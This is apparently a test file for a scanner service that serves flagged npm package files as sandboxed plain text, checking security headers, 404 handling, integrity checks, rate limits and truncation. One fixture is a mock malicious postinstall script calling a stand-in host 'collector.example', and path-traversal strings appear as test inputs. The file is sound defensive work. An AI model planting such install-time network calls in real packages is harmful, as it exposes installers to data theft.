// The user-content origin over a local fixture registry, with the real registry client,
// disk cache and tarball reader: a cited evidence file is served as inert text with the
// sandbox headers; binary files are attachments; large files are cut and say so; anything
// not cited by a done report's alert (another file, another package, another version, a
// pending report, a tampered tarball) is the same 404, and the registry is never asked for
// it; the report JSON is never served; package files are never written to disk.
import assert from 'node:assert/strict';
import { DEFAULT_LIMITS, limitSettings } from './limits.js';
import { mkdtemp, readFile, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import type { LightMyRequestResponse } from 'fastify';
import { reportFixture } from '../render/testing.js';
import type { ReportAlert, ReportPackage, ScanReport } from '../report/types.js';
import { FsBlobStore } from '../store/index.js';
import { usercontentFileUrl } from '../viewer/index.js';
import { FixtureRegistry } from '../../test/helpers/fixture-registry.js';
import { filesBelow } from '../../test/helpers/files.js';
import { BANNER_HEADERS } from './headers.js';
import { ReportService } from './service.js';
import {
  buildUsercontentApp,
  fileBody,
  parseUsercontentPath,
  registryFileReader,
  TRUNCATED_HEADER,
  USERCONTENT_CSP,
  USERCONTENT_MAX_BYTES,
  USERCONTENT_SECURITY_HEADERS,
} from './usercontent.js';

const POSTINSTALL =
  "const https = require('https');\nhttps.request({ hostname: 'collector.example' });\n";
const SECRET = 'not-cited-file-contents-7c1e';
const BINARY = 'GIF89a\u0000\u0001\u0002binary\u0000';

/** Text that barely compresses (so the tarball stays under the gzip-ratio bound), with 3-byte characters. */
function bigText(bytes: number): string {
  let seed = 7;
  let size = 0;
  const parts: string[] = [];
  while (size < bytes) {
    seed = (seed * 1103515245 + 12345) % 2 ** 31;
    const c = seed % 7 === 0 ? '€' : seed % 61 === 0 ? '\n' : String.fromCharCode(97 + (seed % 26));
    parts.push(c);
    size += Buffer.byteLength(c);
  }
  return parts.join('');
}
const BIG = bigText(USERCONTENT_MAX_BYTES + 300_000);

function pkg(name: string, version: string, integrity: string, alerts: string[]): ReportPackage {
  return {
    id: `registry:${name}@${version}`,
    name,
    version,
    purl: `pkg:npm/${name}@${version}`,
    source: 'registry',
    direct: true,
    dev: false,
    optional: false,
    integrity,
    locations: [{ file: 'package-lock.json' }],
    via: [`${name}@${version}`],
    capabilities: [],
    status: 'analysed',
    alerts,
  };
}

function alert(key: string, pkgId: string, files: string[]): ReportAlert {
  const template = reportFixture('blocking').alerts[0] as ReportAlert;
  return { ...template, key, package: pkgId, evidence: files.map((file) => ({ file, line: 1 })) };
}

describe('user-content origin', () => {
  const reg = new FixtureRegistry();
  let dir: string;
  let cacheDir: string;
  let store: FsBlobStore;
  let service: ReportService;
  let reader: ReturnType<typeof registryFileReader>;
  let app: ReturnType<typeof buildUsercontentApp>;
  let release: () => void = () => undefined;
  const held = new Promise<void>((r) => (release = r));
  let id = '';
  let report: ScanReport;

  before(async () => {
    await reg.start([
      {
        name: 'evil-helper',
        versions: [
          {
            version: '1.0.1',
            files: {
              'scripts/postinstall.js': POSTINSTALL,
              'lib/secret.js': SECRET,
              'assets/pixel.gif': BINARY,
              'dist/big.js': BIG,
            },
          },
          { version: '1.0.2', files: { 'scripts/postinstall.js': POSTINSTALL } },
        ],
      },
      {
        name: '@scope/pkg',
        versions: [{ version: '2.0.0', files: { 'lib/a b#?.js': 'x = 1;\n' } }],
      },
      { name: 'tampered', versions: [{ version: '1.0.0', files: { 'index.js': 'y = 2;\n' } }] },
      { name: 'uncited', versions: [{ version: '1.0.0', files: { 'index.js': SECRET } }] },
    ]);
    dir = await mkdtemp(join(tmpdir(), 'dw-usercontent-'));
    cacheDir = join(dir, 'cache');
    store = await FsBlobStore.open(join(dir, 'store'));
    const evil = pkg('evil-helper', '1.0.1', reg.get('evil-helper', '1.0.1').integrity, [
      'k1',
      'k2',
    ]);
    const scoped = pkg('@scope/pkg', '2.0.0', reg.get('@scope/pkg', '2.0.0').integrity, ['k3']);
    // The lockfile recorded another integrity than the registry's bytes have.
    const tampered = pkg('tampered', '1.0.0', reg.get('evil-helper', '1.0.2').integrity, ['k4']);
    const uncited = pkg('uncited', '1.0.0', reg.get('uncited', '1.0.0').integrity, []);
    const git = { ...pkg('evil-helper', '1.0.2', '', ['k5']), source: 'git' as const };
    report = {
      ...reportFixture('blocking'),
      packages: [evil, scoped, tampered, uncited, git],
      alerts: [
        alert('k1', evil.id, ['scripts/postinstall.js', 'assets/pixel.gif']),
        alert('k2', evil.id, ['dist/big.js']),
        alert('k3', scoped.id, ['lib/a b#?.js']),
        alert('k4', tampered.id, ['index.js']),
        alert('k5', git.id, ['scripts/postinstall.js']),
      ],
    };
    service = new ReportService({
      store,
      adminTokenHashes: [],
      concurrency: 2,
      queueLimit: 10,
      run: async (snapshot) => {
        if (Buffer.from(snapshot.files[0]?.bytes ?? []).includes('"hold"')) await held;
        return { ...structuredClone(report), snapshot: { ...report.snapshot, id: snapshot.id } };
      },
    });
    const manifest = (tag: string) => [
      {
        path: 'package.json',
        bytes: Buffer.from(JSON.stringify({ name: 'uc', description: tag })),
      },
    ];
    id = (await service.submit(manifest('done'))).id;
    await service.drained();
    reader = registryFileReader({ registryUrl: reg.url, cacheDir });
    app = buildUsercontentApp({ service, readPackageFile: reader });
  });
  after(async () => {
    release();
    await service.drained();
    await app.close();
    await reader.close();
    await store.close();
    await reg.stop();
    await rm(dir, { recursive: true, force: true });
  });

  const get = (name: string, version: string, file: string, reportId = id) =>
    app.inject({
      url: new URL(usercontentFileUrl('https://u.example', reportId, name, version, file)).pathname,
    });

  function assertHeaders(res: LightMyRequestResponse, what: string): void {
    for (const [name, value] of Object.entries(USERCONTENT_SECURITY_HEADERS))
      assert.equal(res.headers[name], value, `${what}: ${name}`);
    assert.equal(res.headers['content-type'], 'text/plain; charset=utf-8', what);
    for (const name of [...BANNER_HEADERS, 'set-cookie'])
      assert.equal(res.headers[name], undefined, `${what}: ${name}`);
    assert.doesNotMatch(res.body, /schemaVersion|"snapshot"|"alerts"/, `${what}: no report JSON`);
  }

  it('serves a cited evidence file as inert text', async () => {
    const res = await get('evil-helper', '1.0.1', 'scripts/postinstall.js');
    assert.equal(res.statusCode, 200);
    assert.equal(res.body, POSTINSTALL);
    assertHeaders(res, 'text');
    assert.equal(
      res.headers['content-security-policy'],
      "sandbox; default-src 'none'; base-uri 'none'; form-action 'none'; frame-ancestors 'none'",
    );
    assert.equal(USERCONTENT_CSP, res.headers['content-security-policy']);
    assert.equal(res.headers['cross-origin-resource-policy'], 'same-origin');
    assert.equal(
      res.headers['content-disposition'],
      `inline; filename="postinstall.js"; filename*=UTF-8''postinstall.js`,
    );
    assert.equal(res.headers[TRUNCATED_HEADER], undefined);
  });

  it('handles scoped names and paths with spaces and URL characters', async () => {
    const res = await get('@scope/pkg', '2.0.0', 'lib/a b#?.js');
    assert.equal(res.statusCode, 200, res.body);
    assert.equal(res.body, 'x = 1;\n');
    assert.equal(
      res.headers['content-disposition'],
      `inline; filename="a_b__.js"; filename*=UTF-8''a%20b%23%3F.js`,
    );
  });

  it('sends binary content as an attachment, byte for byte', async () => {
    const res = await get('evil-helper', '1.0.1', 'assets/pixel.gif');
    assert.equal(res.statusCode, 200);
    assertHeaders(res, 'binary');
    assert.match(String(res.headers['content-disposition']), /^attachment; filename="pixel\.gif"/);
    assert.deepEqual(res.rawPayload, Buffer.from(BINARY, 'utf8'));
  });

  it('cuts large files at 2 MiB on a character boundary and says so', async () => {
    const res = await get('evil-helper', '1.0.1', 'dist/big.js');
    assert.equal(res.statusCode, 200);
    const total = Buffer.byteLength(BIG);
    const sent = res.rawPayload.length;
    assert.ok(sent <= USERCONTENT_MAX_BYTES && sent > USERCONTENT_MAX_BYTES - 4, String(sent));
    assert.equal(res.headers[TRUNCATED_HEADER], `${sent}/${total}`);
    assert.ok(BIG.startsWith(res.body), 'a prefix of the file, no broken character');
    assert.match(String(res.headers['content-disposition']), /^inline;/);
  });

  it('answers the same 404 for anything a done report does not cite, without asking the registry', async () => {
    const before = reg.server.requests.length;
    const cases: [string, Promise<LightMyRequestResponse>][] = [
      ['uncited file of a cited package', get('evil-helper', '1.0.1', 'lib/secret.js')],
      ['package without alerts', get('uncited', '1.0.0', 'index.js')],
      ['package not in the report', get('left-pad', '1.3.0', 'index.js')],
      ['other version', get('evil-helper', '1.0.2', 'scripts/postinstall.js')],
      ['unknown id', get('evil-helper', '1.0.1', 'scripts/postinstall.js', 'f'.repeat(64))],
      ['malformed id', get('evil-helper', '1.0.1', 'scripts/postinstall.js', '../x')],
      ['path traversal', get('evil-helper', '1.0.1', '../scripts/postinstall.js')],
    ];
    for (const [what, pending] of cases) {
      const res = await pending;
      assert.equal(res.statusCode, 404, what);
      assert.equal(res.body, 'not found\n', what);
      assertHeaders(res, what);
    }
    assert.equal(reg.server.requests.length, before, 'no registry request for an uncited file');
  });

  it('serves nothing for a report that is not done', async () => {
    const pending = await service.submit([
      {
        path: 'package.json',
        bytes: Buffer.from(JSON.stringify({ name: 'uc', description: 'hold' })),
      },
    ]);
    const res = await get('evil-helper', '1.0.1', 'scripts/postinstall.js', pending.id);
    assert.equal(res.statusCode, 404);
    release();
    await service.drained();
    assert.equal(
      (await get('evil-helper', '1.0.1', 'scripts/postinstall.js', pending.id)).statusCode,
      200,
    );
  });

  it('refuses bytes that do not match the integrity the report recorded', async () => {
    const res = await get('tampered', '1.0.0', 'index.js');
    assert.equal(res.statusCode, 404);
    assert.doesNotMatch(res.body, /y = 2/);
  });

  it('every other path is a 404 with the same headers; the report JSON is never served', async () => {
    for (const url of [
      '/',
      `/api/v1/reports/${id}`,
      `/r/${id}`,
      `/f/${id}`,
      `/f/${id}/`,
      `/f/${id}/evil-helper%401.0.1`,
      `/f/${id}/evil-helper%401.0.1/`,
      `/f/${id}/evil-helper/scripts/postinstall.js`,
      `/f/${id}/%E0%A4%A/x`,
      '/robots.txt',
    ]) {
      const res = await app.inject({ url });
      assert.equal(res.statusCode, 404, url);
      assertHeaders(res, url);
    }
    const post = await app.inject({
      method: 'POST',
      url: `/f/${id}/evil-helper%401.0.1/package.json`,
    });
    assert.equal(post.statusCode, 404);
    assertHeaders(post, 'POST');
  });

  it('limits reads per client address: 429 with Retry-After, the same headers, no report', async () => {
    const limited = buildUsercontentApp({
      service,
      readPackageFile: reader,
      limits: limitSettings({
        rates: { ...DEFAULT_LIMITS.rates, read: { max: 2, windowMs: 60_000 } },
      }),
    });
    try {
      const statuses: number[] = [];
      let last: LightMyRequestResponse | undefined;
      for (let i = 0; i < 3; i++) {
        last = await limited.inject({ url: `/f/${id}/nothing%401.0.0/x.js` });
        statuses.push(last.statusCode);
      }
      assert.deepEqual(statuses, [404, 404, 429]);
      assert.ok(Number(last?.headers['retry-after']) > 0);
      assert.ok(last?.headers['ratelimit-limit'] !== undefined);
      assertHeaders(last as LightMyRequestResponse, '429');
    } finally {
      await limited.close();
    }
  });

  it('keeps tarballs compressed in the cache and never writes a package file', async () => {
    const written = await filesBelow(cacheDir);
    assert.ok(written.some((f) => f.includes(`${join('tarballs', 'sha512')}`)));
    for (const f of written) {
      assert.doesNotMatch(f, /postinstall|secret|\.js$|\.gif$/);
      const bytes = await readFile(f);
      assert.ok(!bytes.includes(Buffer.from("require('https')")), f);
    }
  });
});

describe('user-content URL shape', () => {
  it('reads back what usercontentFileUrl writes', () => {
    for (const [name, version, file] of [
      ['left-pad', '1.3.0', 'index.js'],
      ['@scope/pkg', '1.0.0-rc.1+build', 'lib/deep/a b/%41.js'],
      ['x', '1.0.0', 'dir//file'],
      ['@a/b', '0.0.0', 'weird\u202e<name>"\'.txt'],
    ] as const) {
      const url = new URL(
        usercontentFileUrl('https://u.example', 'a'.repeat(64), name, version, file),
      );
      assert.deepEqual(parseUsercontentPath(`${url.pathname}?q=1`), {
        id: 'a'.repeat(64),
        name,
        version,
        path: file,
      });
    }
  });

  it('refuses what is not of the shape', () => {
    for (const url of [
      '/x/a/b@1/c',
      '/f/a',
      '/f/a/b@1',
      '/f/a/b@1/',
      '/f/a/b/c',
      '/f/a/@b/c',
      '/f/a/b@/c',
      '/f//b@1/c',
      '/f/a/b@1/%E0%A4%A',
      '/f/a/b@1/a%00b',
      `/f/a/b@1/${'x'.repeat(5000)}`,
    ])
      assert.equal(parseUsercontentPath(url), undefined, url);
  });

  it('fileBody: UTF-8 without NUL is text; anything else is binary; cuts are announced', () => {
    assert.deepEqual(fileBody(Buffer.from('héllo')), {
      body: Buffer.from('héllo'),
      text: true,
      truncated: false,
    });
    assert.equal(fileBody(Buffer.from([0x61, 0x00, 0x62])).text, false);
    assert.equal(fileBody(Buffer.from([0xc3, 0x28])).text, false);
    // A 3-byte character across the cut is dropped whole.
    const bytes = Buffer.concat([Buffer.alloc(USERCONTENT_MAX_BYTES - 1, 0x61), Buffer.from('€')]);
    const cut = fileBody(bytes);
    assert.equal(cut.truncated, true);
    assert.equal(cut.text, true);
    assert.equal(cut.body.length, USERCONTENT_MAX_BYTES - 1);
  });
});
